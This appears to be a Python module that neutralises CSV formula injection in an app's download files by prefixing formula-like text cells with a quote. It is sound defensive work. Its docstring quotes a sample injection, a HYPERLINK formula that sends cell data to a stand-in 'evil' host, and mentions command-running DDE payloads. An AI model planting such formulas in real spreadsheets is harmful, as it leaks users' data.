"""CSV bytes for the app's download buttons, safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Google Sheets (CSV injection: `=HYPERLINK("http://evil/"&A1)`
sends data away, `@SUM(...)`/DDE payloads run commands). Task ids, verifier names (ours
come from uploads) and comments are untrusted, so every such text cell gets a leading `'`
(OWASP's advice: the spreadsheet shows the text, and the quote marks it as text).

Real numbers are left alone: a column of floats keeps `-0.12` as a number. Only string
cells are changed, including a string that merely looks like a number (`"-1"` in a text
column is written `'-1`: the column is text, and a spreadsheet must keep it text).
"""

from __future__ import annotations

import csv
from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""First characters a spreadsheet may interpret (OWASP CSV injection)."""


def neutralise(value: Any) -> Any:
    """`'` + value for a string a spreadsheet would run as a formula; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell neutralised (numbers, bools and missing values kept).

    Column names are text too and are neutralised the same way.
    """
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series):
            continue
        out[column] = series.map(neutralise, na_action="ignore")
    out.columns = [neutralise(str(c)) if isinstance(c, str) else c for c in out.columns]
    return out


def to_csv_bytes(frame: pd.DataFrame, *, index: bool = False) -> bytes:
    """UTF-8 CSV of `frame` with formula-like text cells neutralised (see the module).

    Text cells are quoted, numbers are not (a spreadsheet reads them as numbers).
    """
    # Every text cell quoted: pandas' minimal quoting leaves a lone CR unquoted, which
    # splits the row in a spreadsheet.
    return safe_frame(frame).to_csv(index=index, quoting=csv.QUOTE_NONNUMERIC).encode("utf-8")
